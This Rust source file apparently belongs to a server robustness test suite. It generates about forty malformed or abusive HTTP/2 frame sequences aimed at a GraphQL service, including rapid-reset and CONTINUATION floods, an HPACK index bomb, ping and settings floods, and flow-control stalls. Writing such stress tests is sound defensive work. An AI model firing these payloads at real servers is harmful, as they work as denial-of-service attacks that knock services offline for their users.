//! HTTP/2 without any thanks.

use super::{Attack, Then, attack};

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The header of a POST to the endpoint, in HPACK.
const POSTING: &[u8] = b"\x83\x86\x04\x08/graphql\x01\x01x\x0f\x10\x10application/json";

const GETTING: &[u8] = b"\x82\x86\x04\x08/healthz\x01\x01x";

pub(super) fn http2() -> Vec<Attack> {
    const DATA: u8 = 0;
    const HEADERS: u8 = 1;
    const PRIORITY: u8 = 2;
    const RESET: u8 = 3;
    const SETTINGS: u8 = 4;
    const PUSH: u8 = 5;
    const PING: u8 = 6;
    const GOAWAY: u8 = 7;
    const WINDOW: u8 = 8;
    const CONTINUATION: u8 = 9;
    const END_STREAM: u8 = 1;
    const END_HEADERS: u8 = 4;
    const WHOLE: u8 = END_STREAM | END_HEADERS;
    let streams = |count: u32, frames: &dyn Fn(u32) -> Vec<u8>| -> Vec<u8> {
        (0..count).flat_map(|n| frames(2 * n + 1)).collect()
    };
    let query = br#"{"query":"{ products(first: 100) { nodes { id name slug } } }"}"#;
    let post = |stream| {
        [frame(HEADERS, END_HEADERS, stream, POSTING), frame(DATA, END_STREAM, stream, query)].concat()
    };
    // The smallest window, which nothing makes larger: no answer can be sent.
    let closed = frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0");
    [
        ("nothing else", vec![]),
        ("nonsense", b"\xff".repeat(10_000)),
        ("settings", frame(SETTINGS, 0, 0, &b"\0\x04\0\0\xff\xff".repeat(100)).repeat(500)),
        ("settings that are none", frame(SETTINGS, 0, 0, b"\0\x04\0")),
        ("settings acknowledged that were never sent", frame(SETTINGS, 1, 0, b"").repeat(10_000)),
        ("a huge window", frame(SETTINGS, 0, 0, b"\0\x04\xff\xff\xff\xff")),
        ("frames of no size", frame(SETTINGS, 0, 0, b"\0\x05\0\0\0\0")),
        ("pings", frame(PING, 0, 0, b"12345678").repeat(20_000)),
        ("pings too short", frame(PING, 0, 0, b"1")),
        (
            "rapid reset",
            streams(5_000, &|n| {
                [frame(HEADERS, WHOLE, n, GETTING), frame(RESET, 0, n, b"\0\0\0\x08")].concat()
            }),
        ),
        ("rapid reset of POSTs", streams(5_000, &|n| [post(n), frame(RESET, 0, n, b"\0\0\0\x08")].concat())),
        ("resets of nothing", streams(10_000, &|n| frame(RESET, 0, n, b"\0\0\0\x08"))),
        (
            "continuations without an end",
            [
                frame(HEADERS, 0, 1, GETTING),
                frame(CONTINUATION, 0, 1, &[b"\x40\x01a\x7f\x80\x01", &[b'a'; 255][..]].concat())
                    .repeat(3_000),
            ]
            .concat(),
        ),
        (
            "empty continuations",
            [frame(HEADERS, 0, 1, GETTING), frame(CONTINUATION, 0, 1, b"").repeat(20_000)].concat(),
        ),
        ("a continuation of nothing", frame(CONTINUATION, END_HEADERS, 1, GETTING)),
        (
            "a table of headers that grows",
            streams(200, &|n| {
                frame(HEADERS, WHOLE, n, &[GETTING, &b"\x40\x01a\x01b".repeat(1_000)].concat())
            }),
        ),
        (
            "an index bomb",
            streams(20, &|n| {
                frame(
                    HEADERS,
                    WHOLE,
                    n,
                    &[GETTING, b"\x40\x01a\x7f\x80\x1f", &[b'b'; 4_095], &b"\xbe".repeat(10_000)].concat(),
                )
            }),
        ),
        ("indices of nothing", frame(HEADERS, WHOLE, 1, b"\xff\xff\xff\xff\xff\xff\xff")),
        (
            "a header of 1 MB",
            [frame(HEADERS, 0, 1, GETTING), frame(CONTINUATION, 0, 1, &[b'\x82'; 16_000]).repeat(64)]
                .concat(),
        ),
        ("no pseudo header", frame(HEADERS, WHOLE, 1, b"")),
        ("an even stream", frame(HEADERS, WHOLE, 2, GETTING)),
        ("stream 0", frame(HEADERS, WHOLE, 0, GETTING)),
        ("a stream again", frame(HEADERS, WHOLE, 1, GETTING).repeat(100)),
        ("data of no stream", frame(DATA, 0, 7, b"abc")),
        (
            "empty data",
            [frame(HEADERS, END_HEADERS, 1, POSTING), frame(DATA, 0, 1, b"").repeat(20_000)].concat(),
        ),
        (
            "data beyond the window",
            [frame(HEADERS, END_HEADERS, 1, POSTING), frame(DATA, 0, 1, &[b' '; 16_384]).repeat(100)]
                .concat(),
        ),
        ("padding beyond the frame", frame(DATA, 8, 1, b"\xff")),
        ("a frame of 16 MB announced", [&b"\xff\xff\xff\x00\x00\0\0\0\x01"[..], b"abc"].concat()),
        ("window updates of 0", frame(WINDOW, 0, 0, b"\0\0\0\0")),
        ("window updates beyond all", frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff").repeat(2)),
        ("window updates", frame(WINDOW, 0, 0, b"\0\0\0\x01").repeat(20_000)),
        ("priorities", streams(20_000, &|n| frame(PRIORITY, 0, n, b"\0\0\0\0\x10"))),
        ("a stream that needs itself", frame(PRIORITY, 0, 1, b"\0\0\0\x01\x10")),
        ("a push", frame(PUSH, END_HEADERS, 1, &[b"\0\0\0\x02", GETTING].concat())),
        (
            "the end",
            [frame(GOAWAY, 0, 0, &[b'x'; 10_000]), streams(100, &|n| frame(HEADERS, WHOLE, n, GETTING))]
                .concat(),
        ),
        ("frames of no kind", frame(200, 0, 0, &[0; 1_000]).repeat(1_000)),
        ("1,000 streams at once", streams(1_000, &post)),
        (
            "1,000 bodies at once that do not end",
            streams(1_000, &|n| {
                [frame(HEADERS, END_HEADERS, n, POSTING), frame(DATA, 0, n, &[b' '; 60])].concat()
            }),
        ),
        ("a closed window", [closed, streams(150, &post)].concat()),
    ]
    .map(|(name, frames)| {
        let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &*frame(SETTINGS, 0, 0, b"")].concat();
        attack(format!("HTTP/2: {name}"), Then::End, [preface, frames].concat())
    })
    .into()
}
